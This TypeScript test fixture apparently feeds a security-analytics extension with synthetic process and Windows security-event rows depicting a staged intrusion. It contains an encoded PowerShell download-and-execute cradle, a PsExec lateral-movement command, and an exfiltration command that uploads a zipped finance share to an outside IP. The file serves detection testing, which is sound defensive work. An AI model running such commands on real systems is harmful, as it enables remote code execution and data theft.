/**
 * Rows shaped like the demo's story (jupyterlab_sentinel/demo/STORY.md, generator.py): stage 5's
 * encoded PowerShell on WKS-0042 started by Outlook, stage 6's PsExec to SRV-FILE01, stage 7's
 * exfiltration, among ordinary processes. As in the demo, Defender rows carry no initiating
 * process ids and 4688 rows no process ids.
 */
import type { IColumnInfo } from '../../../tokens';

/** What the encoded PowerShell runs (the demo's download cradle). */
export const CRADLE =
  "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.50/stage2.ps1')";
/** The cradle as -EncodedCommand takes it: base64 of UTF-16LE. */
export const ENCODED = Buffer.from(CRADLE, 'utf16le').toString('base64');
export const PS_CMD = `powershell.exe -NoP -W Hidden -enc ${ENCODED}`;
export const WKS = 'wks-0042.contoso.example';
export const SRV = 'srv-file01.contoso.example';

/** The demo's DeviceProcessEvents columns these rows fill. */
export const DEVICE_PROCESS_COLUMNS: IColumnInfo[] = [
  { name: 'TimeGenerated', type: 'datetime' },
  { name: 'DeviceName', type: 'string' },
  { name: 'AccountName', type: 'string' },
  { name: 'FileName', type: 'string' },
  { name: 'FolderPath', type: 'string' },
  { name: 'ProcessCommandLine', type: 'string' },
  { name: 'ProcessId', type: 'long' },
  { name: 'InitiatingProcessFileName', type: 'string' },
  { name: 'InitiatingProcessCommandLine', type: 'string' },
  { name: 'InitiatingProcessId', type: 'long' },
  { name: 'InitiatingProcessAccountName', type: 'string' }
];

const SYSTEM32 = 'C:\\Windows\\System32';
const POWERSHELL = `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`;

function process(
  time: string,
  device: string,
  file: string,
  folder: string,
  commandLine: string,
  pid: number,
  parentFile: string,
  parentCommandLine: string
): Record<string, unknown> {
  return {
    TimeGenerated: time,
    DeviceName: device,
    AccountName: 'adele.vance',
    FileName: file,
    FolderPath: folder,
    ProcessCommandLine: commandLine,
    ProcessId: pid,
    InitiatingProcessFileName: parentFile,
    InitiatingProcessCommandLine: parentCommandLine,
    InitiatingProcessId: null,
    InitiatingProcessAccountName: 'adele.vance'
  };
}

/** DeviceProcessEvents of the story, in the order a query returns them (not by time). */
export const DEVICE_PROCESS_ROWS: Record<string, unknown>[] = [
  process(
    '2026-11-27T12:33:23Z',
    SRV,
    'cmd.exe',
    `${SYSTEM32}\\cmd.exe`,
    'cmd.exe',
    4404,
    'PSEXESVC.exe',
    'C:\\Windows\\PSEXESVC.exe'
  ),
  process(
    '2026-11-27T12:05:11Z',
    WKS,
    'powershell.exe',
    POWERSHELL,
    PS_CMD,
    7712,
    'OUTLOOK.EXE',
    '"OUTLOOK.EXE" /recycle'
  ),
  process(
    '2026-11-27T08:02:40Z',
    WKS,
    'OUTLOOK.EXE',
    'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
    '"OUTLOOK.EXE" /recycle',
    3312,
    'explorer.exe',
    'explorer.exe'
  ),
  process(
    '2026-11-27T12:33:00Z',
    WKS,
    'PsExec64.exe',
    'C:\\Users\\adele.vance\\AppData\\Local\\Temp\\PsExec64.exe',
    'PsExec64.exe \\\\SRV-FILE01 -accepteula -s cmd.exe',
    8120,
    'powershell.exe',
    PS_CMD
  ),
  process(
    '2026-11-27T13:06:00Z',
    SRV,
    'powershell.exe',
    POWERSHELL,
    'powershell.exe Compress-Archive -Path D:\\Shares\\Finance -DestinationPath C:\\ProgramData\\f.zip; ' +
      'Invoke-WebRequest -Uri https://203.0.113.50/u -Method Put -InFile C:\\ProgramData\\f.zip',
    5120,
    'cmd.exe',
    'cmd.exe'
  ),
  process(
    '2026-11-27T09:15:00Z',
    WKS,
    'powershell.exe',
    POWERSHELL,
    'powershell.exe -NoProfile -Command Get-Service',
    22014,
    'explorer.exe',
    'explorer.exe'
  )
];

/** The demo's SecurityEvent columns these rows fill. */
export const SECURITY_EVENT_COLUMNS: IColumnInfo[] = [
  { name: 'TimeGenerated', type: 'datetime' },
  { name: 'Computer', type: 'string' },
  { name: 'EventID', type: 'int' },
  { name: 'Account', type: 'string' },
  { name: 'NewProcessName', type: 'string' },
  { name: 'NewProcessId', type: 'string' },
  { name: 'CommandLine', type: 'string' },
  { name: 'ProcessId', type: 'string' },
  { name: 'ParentProcessName', type: 'string' }
];

/** Stage 5 in SecurityEvent (4688) and stage 6's logon on the server (4624). */
export const SECURITY_EVENT_ROWS: Record<string, unknown>[] = [
  {
    TimeGenerated: '2026-11-27T12:33:20Z',
    Computer: SRV,
    EventID: 4624,
    Account: 'CONTOSO\\adele.vance',
    NewProcessName: null,
    NewProcessId: null,
    CommandLine: null,
    ProcessId: null,
    ParentProcessName: null
  },
  {
    TimeGenerated: '2026-11-27T12:05:11Z',
    Computer: WKS,
    EventID: 4688,
    Account: 'CONTOSO\\adele.vance',
    NewProcessName: POWERSHELL,
    NewProcessId: null,
    CommandLine: PS_CMD,
    ProcessId: null,
    ParentProcessName:
      'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE'
  }
];
